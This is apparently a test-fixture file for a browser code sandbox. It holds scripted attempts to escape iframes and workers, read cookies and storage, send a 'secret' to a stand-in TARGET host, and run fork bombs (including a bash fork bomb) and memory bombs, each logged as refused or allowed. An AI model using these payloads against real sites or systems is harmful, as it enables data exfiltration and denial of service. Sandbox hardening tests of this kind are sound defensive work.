/**
 * Programs that attack the site from inside the sandbox. Each attempt prints `name: refused` or `name: ALLOWED`, so
 * that a test can report which attempt succeeded. Tests replace `SITE`, `ELSEWHERE` and `STUN` with server addresses.
 */

const HELPERS = `
async function attempt(name, action) {
  try {
    const limit = new Promise((resolve) => setTimeout(resolve, 800, undefined));
    const result = await Promise.race([Promise.resolve().then(action), limit]);
    console.log(name + (result === undefined || result === null || result === false ? ': refused' : ': ALLOWED ' + String(result)));
  } catch (error) {
    console.log(name + ': refused (' + error.name + ')');
  }
}
const waitFor = (target, event) => new Promise((resolve, reject) => {
  target['on' + event] = () => resolve(event);
  target.onerror = () => reject(new Error('error event'));
});
`;

/** Attempts to access the network and storage, for both workers and frames. */
const NETWORK = `
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('fetch ' + address, async () => (await fetch(address + 'fetch', { mode: 'no-cors' })).type);
  await attempt('XMLHttpRequest ' + address, () => {
    const request = new XMLHttpRequest();
    request.open('GET', address + 'xhr');
    const end = waitFor(request, 'load');
    request.send();
    return end;
  });
  await attempt('WebSocket ' + address, () => waitFor(new WebSocket(address.replace('http', 'ws') + 'socket'), 'open'));
  await attempt('EventSource ' + address, () => waitFor(new EventSource(address + 'events'), 'open'));
  await attempt('import() ' + address, async () => typeof (await eval('import("' + address + 'module.js")')));
}
for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel', 'RTCIceTransport', 'WebTransport', 'WebSocketStream'])
  await attempt(name, () => { if (!(name in globalThis)) throw new ReferenceError(); return 'there'; });
await attempt('a connection by WebRTC', async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
  return 'offered';
});
await attempt('indexedDB', () => waitFor(indexedDB.open('x'), 'success'));
await attempt('caches', () => caches.open('x'));
`;

/** An attack for the `js` runtime, which runs programs in a worker. */
export const WORKER_ATTACK = `${HELPERS}${NETWORK}
await attempt('importScripts', () => { importScripts('SITEscript.js'); return 'loaded'; });
await attempt('Worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
await attempt('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob(['1']))));
await attempt('localStorage', () => localStorage.getItem('secret'));
await attempt('document', () => document.cookie);
await attempt('parent', () => parent.document);
await attempt('top', () => top.document);
await attempt('location', () => { location.href = 'ELSEWHERElocation'; });
await attempt('open', () => open('ELSEWHEREopen'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('cookieStore', () => cookieStore.getAll());
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
console.log('all attempted');
`;

/** Attempts to create a child frame, which would still have the constructors that the sandbox removes. */
const CHILDREN = `
const SCRIPT = '<script>parent.postMessage("child ran " + typeof RTCPeerConnection, "*")</' + 'script>';
const waitForChild = (make, root = document.body) => new Promise((resolve, reject) => {
  addEventListener('message', ({ data }) => resolve(data), { once: true });
  setTimeout(() => reject(new Error('no message')), 500);
  make(root);
});
const addFrame = (fields, root = document.body) => root.append(Object.assign(document.createElement('iframe'), fields));
const JS = 'javascript:parent.postMessage("child ran", "*")';
await attempt('constructors of a child', () => { const element = document.createElement('iframe'); document.body.append(element); return typeof element.contentWindow.RTCPeerConnection; });
await attempt('constructors of a child after a delay', async () => { await 0; await new Promise((go) => setTimeout(go, 100)); return typeof frames[0].RTCPeerConnection; });
await attempt('child with srcdoc', () => waitForChild(() => addFrame({ srcdoc: SCRIPT })));
await attempt('child with a javascript: address', () => waitForChild(() => addFrame({ src: JS })));
await attempt('child with a data: address', () => waitForChild(() => addFrame({ src: 'data:text/html,' + SCRIPT })));
await attempt('child with a blob: address', () => waitForChild(() => addFrame({ src: URL.createObjectURL(new Blob([SCRIPT], { type: 'text/html' })) })));
await attempt('child inserted as HTML', () => waitForChild(() => document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></div>')));
await attempt('child with its own sandbox attribute', () => waitForChild(() => { const element = document.createElement('iframe'); element.sandbox = 'allow-scripts'; element.srcdoc = SCRIPT; document.body.append(element); }));
await attempt('child whose sandbox attribute is removed', () => waitForChild(() => { const element = document.createElement('iframe'); document.body.append(element); setTimeout(() => { element.removeAttribute('sandbox'); element.srcdoc = SCRIPT; element.setAttribute('sandbox', ''); }, 50); }));
await attempt('child in a shadow tree', () => waitForChild(() => { const host = document.createElement('div'); addFrame({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed' })); document.body.append(host); }));
await attempt('child in a copied shadow tree', () => waitForChild(() => { const host = document.createElement('div'); addFrame({ srcdoc: SCRIPT }, host.attachShadow({ mode: 'closed', clonable: true })); document.body.append(host.cloneNode(true)); }));
await attempt('child in a declarative shadow tree', () => waitForChild(() => { const host = document.createElement('div'); host.setHTMLUnsafe('<p><template shadowrootmode="open"><iframe srcdoc="' + SCRIPT.replaceAll('"', '&quot;') + '"></iframe></template></p>'); document.body.append(host); }));
await attempt('child in a deep tree', () => waitForChild(() => { const top = document.createElement('div'); let at = top; for (let i = 0; i < 3000; i++) at = at.appendChild(document.createElement('i')); addFrame({ srcdoc: SCRIPT }, at); document.body.append(top); setTimeout(() => top.remove(), 100); }));
await attempt('child in a frameset', () => waitForChild(() => { const set = document.createElement('frameset'); const element = document.createElement('frame'); element.src = JS; set.append(element); document.body.append(set); }));
await attempt('child that is a custom element', () => waitForChild(() => { customElements.define('my-frame', class extends HTMLIFrameElement { connectedCallback() { if (this.getAttribute('sandbox') === '') { this.removeAttribute('sandbox'); this.srcdoc = SCRIPT; } } }, { extends: 'iframe' }); const element = document.createElement('div'); element.innerHTML = '<iframe is="my-frame"></iframe>'; document.body.append(element); }));
document.documentElement ?? document.append(document.createElement('html'));
document.body ?? document.documentElement.append(document.createElement('body'));
await attempt('child after replacing DOM methods', () => waitForChild(() => {
  const nothing = () => null;
  for (const name of ['remove', 'matches', 'setAttribute', 'querySelectorAll', 'closest']) Element.prototype[name] = nothing;
  Node.prototype.insertBefore = nothing;
  for (const [prototype, name] of [[MutationRecord.prototype, 'addedNodes'], [Node.prototype, 'nodeType'], [Node.prototype, 'parentNode'], [NodeList.prototype, 'length']]) Object.defineProperty(prototype, name, { get: nothing });
  Function.prototype.call = Reflect.apply = MutationObserver.prototype.takeRecords = MutationObserver.prototype.disconnect = nothing;
  addFrame({ srcdoc: SCRIPT });
}));
console.log('all attempted');
`;

/** Another attack for the `html` runtime. It isn't part of FRAME_ATTACK because it breaks DOM methods used there. */
export const CHILD_ATTACK = `<p>attack</p><iframe srcdoc="<script>parent.postMessage('static child', '*')</script>"></iframe>
<script type="module">addEventListener('message', ({ data }) => { if (data === 'static child') console.log('static child: ALLOWED'); });
${HELPERS}${CHILDREN}</script>`;

/** Ways for a frame to send data to another URL, usually by navigating to it. */
export const DEPARTURES = {
  'location.href': `<script>location.href = 'TARGET?secret';</script>`,
  'location.replace': `<script>location.replace('TARGET?secret');</script>`,
  'a meta refresh': `<meta http-equiv="refresh" content="0;url=TARGET?secret"><p>x</p>`,
  'a link clicked by a script': `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; HTMLElement.prototype.click.call(a);</script>`,
  'a link with a ping attribute': `<script>const a = document.createElement('a'); a.href = 'TARGET?secret'; a.ping = 'TARGET?ping'; HTMLElement.prototype.click.call(a);</script>`,
  'a form submitted by a script': `<form action="TARGET"><input name="secret" value="1"></form><script>HTMLFormElement.prototype.submit.call(document.forms[0]);</script>`,
  'a form submitted by a button': `<form action="TARGET"><input name="secret" value="1"><button>x</button></form><script>addEventListener('click', (event) => event.stopImmediatePropagation(), true); document.querySelector('button').click();</script>`,
  'a blob: document': `<script>location.href = URL.createObjectURL(new Blob(['<script>RTC; location.href = "TARGET?secret"</' + 'script>'], { type: 'text/html' }));</script>`,
  'a data: document': `<script>location.href = 'data:text/html,' + encodeURIComponent('<script>RTC; location.href = "TARGET?secret"</' + 'script>');</script>`,
  'a rewritten document': `<script>addEventListener('load', () => { document.open(); document.write('<iframe srcdoc="<script>RTC</' + 'script>"></iframe><script>RTC; location.href = "TARGET?secret"</' + 'script>'); document.close(); });</script>`,
};

/** An expression that opens a WebRTC connection, which sends a packet to `STUN`. */
export const RTC = `(async (c) => { c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })(new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }))`;

/** The script is escaped, because the runtime would add its loop guard to it. */
const RTC_FRAME = `<iframe srcdoc="&lt;script>${RTC}&lt;/script>"></iframe>`;

/** Ways to connect to `TARGET` or `STUN` that no Content-Security-Policy covers. */
export const FRAMED_CONNECTIONS = {
  'a parsed frame': '<iframe src="TARGET?secret"></iframe>'.repeat(10),
  'a frame that a script adds': `<p>x</p><script>for (let i = 0; i < 10; i++) document.body.append(Object.assign(document.createElement('iframe'), { src: 'TARGET?' + i }));</script>`,
  'a frame that is removed immediately': `<p>x</p><script>const frame = Object.assign(document.createElement('iframe'), { src: 'TARGET' }); document.body.append(frame); frame.remove();</script>`,
  'a navigation of the preview': `<script>location.href = 'TARGET?secret';</script>`,
  'a hint in the head': `<link rel="preconnect" href="TARGET"><link rel="dns-prefetch" href="TARGET"><link rel="prefetch" href="TARGET"><script type="speculationrules">{ "prefetch": [{ "urls": ["TARGET"] }] }</script><p>x</p>`,
  'WebRTC in a closed declarative shadow tree': `<div><template shadowrootmode="closed">${RTC_FRAME}</template></div>`,
  'WebRTC in a tree that setHTMLUnsafe parses': `<div></div><script>document.querySelector('div').setHTMLUnsafe(\`<p><template shadowrootmode="closed">${RTC_FRAME}</template></p>\`);</script>`,
} as const;

/** An attack for the `html` runtime. At the end, it tries to navigate its own frame to another site. */
export const FRAME_ATTACK = `<p>attack</p><script type="module">${HELPERS}${NETWORK}
await attempt('cookie', () => document.cookie || 'readable');
await attempt('set cookie', () => { document.cookie = 'a=b'; return 'set'; });
await attempt('localStorage', () => localStorage.getItem('secret') ?? 'readable');
await attempt('sessionStorage', () => sessionStorage.length + ' readable');
await attempt('parent.document', () => parent.document.title);
await attempt('top.document', () => top.document.cookie);
await attempt('top.localStorage', () => top.localStorage.secret);
await attempt('top.location.href', () => top.location.href);
await attempt('frameElement', () => window.frameElement);
await attempt('top.location =', () => { top.location = 'ELSEWHEREtop'; return 'navigated'; });
await attempt('top.location.replace', () => { top.location.replace('ELSEWHEREtop'); return 'navigated'; });
await attempt('link to _top', () => { const a = document.createElement('a'); a.href = 'ELSEWHEREtoplink'; a.target = '_top'; document.body.append(a); HTMLElement.prototype.click.call(a); });
await attempt('window.open', () => window.open('ELSEWHEREopen'));
await attempt('serviceWorker', () => navigator.serviceWorker.register('SITEworker.js'));
await attempt('Worker', () => waitFor(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'));
await attempt('SharedWorker', () => { const w = new SharedWorker(URL.createObjectURL(new Blob(['']))); return new Promise((ok, no) => { w.onerror = () => no(new Error('error event')); }); });
await attempt('BroadcastChannel', () => new Promise((resolve, reject) => {
  const channel = new BroadcastChannel('site');
  channel.onmessage = ({ data }) => resolve(data);
  channel.postMessage('hello');
  setTimeout(() => reject(new Error('no answer')), 300);
}));
for (const address of ['SITE', 'ELSEWHERE']) {
  await attempt('sendBeacon ' + address, () => { navigator.sendBeacon(address + 'beacon', 'x'); });
  await attempt('img ' + address, () => { const image = new Image(); const end = waitFor(image, 'load'); image.src = address + 'image.png'; return end; });
  await attempt('script ' + address, () => { const element = document.createElement('script'); const end = waitFor(element, 'load'); element.src = address + 'script.js'; document.head.append(element); return end; });
  await attempt('style ' + address, () => { const element = document.createElement('link'); element.rel = 'stylesheet'; const end = waitFor(element, 'load'); element.href = address + 'style.css'; document.head.append(element); return end; });
  await attempt('@import ' + address, () => { const element = document.createElement('style'); element.textContent = '@import "' + address + 'import.css"; p { background: url(' + address + 'background.png) }'; document.head.append(element); });
  await attempt('preload ' + address, () => { const element = document.createElement('link'); element.rel = 'preload'; element.as = 'image'; const end = waitFor(element, 'load'); element.href = address + 'preload.png'; document.head.append(element); return end; });
  await attempt('iframe ' + address, () => { const element = document.createElement('iframe'); element.src = address + 'frame'; document.body.append(element); });
  await attempt('object ' + address, () => { const element = document.createElement('object'); element.data = address + 'object'; document.body.append(element); });
  await attempt('form ' + address, () => { const element = document.createElement('form'); element.action = address + 'form'; document.body.append(element); HTMLFormElement.prototype.submit.call(element); });
  await attempt('ping ' + address, () => { const element = document.createElement('a'); element.href = '#x'; element.ping = address + 'ping'; document.body.append(element); element.click(); });
  await attempt('base ' + address, () => { const element = document.createElement('base'); element.href = address; document.head.prepend(element); return document.baseURI.startsWith(address + 'base') ? 'changed' : undefined; });
}
console.log('all attempted');
setTimeout(() => { location.href = 'ELSEWHEREself'; }, 200);
</script>`;

/** A program that wastes processor time or memory. */
export interface Bomb {
  runtime: 'js' | 'html' | 'react' | 'python' | 'sql' | 'bash';
  code: string;
  /** Matches the program's output, the error message, or the reason why the program was stopped. */
  message: RegExp;
}

const createWorkerBomb = (code: string, message: RegExp): Bomb => ({ runtime: 'js', code, message });

const createShellBomb = (code: string, message: RegExp): Bomb => ({ runtime: 'bash', code, message });

const createFrameBomb = (script: string, message: RegExp): Bomb => ({
  runtime: 'html',
  code: `<p>calm</p><script>${script}</script>`,
  message,
});

const LOOP_MESSAGE = /did not finish within 2 s|timeout|unresponsive/;
const FLOOD_MESSAGE = /flood|printed more than|sent too many/;

/** Programs that try to make the page unresponsive. */
export const BOMBS = {
  'an endless loop in a worker': createWorkerBomb('for (;;);', /timeout/),
  'a flood of logs in a worker': createWorkerBomb('for (;;) console.log("flood");', /flood/),
  'a flood of forged messages in a worker': createWorkerBomb(
    'for (;;) self.postMessage({ type: "result", run: 7, result: {} });',
    /timeout|flood/,
  ),
  'a fork bomb in a worker': createWorkerBomb(
    'const url = URL.createObjectURL(new Blob(["for (;;);"])); for (;;) new Worker(url);',
    /Worker is not defined/,
  ),
  'an endless loop in the shell': createShellBomb('while true; do :; done', /timeout/),
  'a flood of output in the shell': createShellBomb('while true; do echo flood; done', /flood/),
  'a fork bomb in the shell': createShellBomb('f() { f | f & }; f', /maximum recursion depth|timeout/),
  'an endless loop in a frame': createFrameBomb('for (;;);', /the loop did not finish within 2 s/),
  'an endless loop that evades the guard': createFrameBomb(
    'new Function("for (;;);")();',
    /timeout|unresponsive/,
  ),
  'an endless loop after the run': createFrameBomb(
    'setTimeout(() => new Function("for (;;);")(), 500);',
    /stopped responding/,
  ),
  'a flood of logs in a frame': createFrameBomb(
    'setInterval(() => { for (let i = 0; i < 100; i++) console.log("flood"); }, 0);',
    FLOOD_MESSAGE,
  ),
  'a flood of messages to the page': createFrameBomb(
    'setInterval(() => { for (let i = 0; i < 100; i++) { top.postMessage("x".repeat(1e4), "*"); parent.postMessage("x", "*"); } }, 0);',
    FLOOD_MESSAGE,
  ),
  'a document that grows without end': createFrameBomb(
    'for (;;) document.body.append(document.createElement("p"));',
    LOOP_MESSAGE,
  ),
  'a fork bomb in a frame': createFrameBomb(
    'const url = URL.createObjectURL(new Blob(["for (;;);"])); for (let i = 0; i < 200; i++) new Worker(url);',
    /Refused|SecurityError|ended without/,
  ),
  'a flood of child frames': createFrameBomb(
    'for (;;) document.body.append(document.createElement("iframe"));',
    LOOP_MESSAGE,
  ),
};

/** Matches the message about a process that crashed or stopped responding. */
export const UNRESPONSIVE = /used too much memory or stopped responding|^unresponsive$/m;

/** Matches a crash or a timeout. Which one happens first depends on the machine. */
const STOPPED = new RegExp(`${UNRESPONSIVE.source}|^timeout$`, 'm');

const FILL_MEMORY =
  'setInterval(() => { for (let i = 0; i < 20; i++) all.push(new Array(1e6).fill(1)); }, 10)';

/** Programs that use more and more memory. */
export const MEMORY_BOMBS: Record<string, Bomb> = {
  'arrays in a worker': createWorkerBomb(
    'const all = []; for (;;) all.push(new Array(1e6).fill(1));',
    STOPPED,
  ),
  'objects in a worker': createWorkerBomb('const all = []; for (let i = 0; ; i++) all.push({ i });', STOPPED),
  'a growing string in a worker': createWorkerBomb("let s = 'ab'; for (;;) s += s;", /Invalid string length/),
  'huge buffers in a worker': createWorkerBomb(
    'const all = []; for (;;) all.push(new ArrayBuffer(8e9));',
    /allocation failed/,
  ),
  'arrays in a frame': createFrameBomb(
    'const all = []; for (;;) all.push(new Array(1e6).fill(1));',
    new RegExp(`${STOPPED.source}|did not finish within 2 s`, 'm'),
  ),
  'a growing string in a frame': createFrameBomb("let s = 'ab'; for (;;) s += s;", /Invalid string length/),
  'huge buffers in a frame': createFrameBomb(
    'const all = []; for (;;) all.push(new ArrayBuffer(8e9));',
    /allocation failed/,
  ),
  'arrays in a frame after its run': createFrameBomb(`const all = []; ${FILL_MEMORY};`, UNRESPONSIVE),
  'arrays in a React component after its run': {
    runtime: 'react',
    code: `import { useEffect } from 'react'; const all = []; export default function App() { useEffect(() => { ${FILL_MEMORY}; }, []); return <p>calm</p>; }`,
    message: UNRESPONSIVE,
  },
  'a growing string in the shell': {
    runtime: 'bash',
    code: 'x=a; while true; do x=$x$x; done',
    message: new RegExp(`string length limit exceeded|${STOPPED.source}`, 'm'),
  },
  'lists in Python': {
    runtime: 'python',
    code: 'a = []\nwhile True:\n    a.append([0] * 10**6)',
    message: new RegExp(`^MemoryError|${STOPPED.source}`, 'm'),
  },
  'a string in SQL': {
    runtime: 'sql',
    code: "select length(string_agg(repeat('x', 1000000), '')) from generate_series(1, 2000);",
    message: /out of memory/,
  },
  'a table in SQL': {
    runtime: 'sql',
    code: 'create table t as select repeat(md5(g::text), 60) as x from generate_series(1, 100000000) g;',
    message: STOPPED,
  },
};
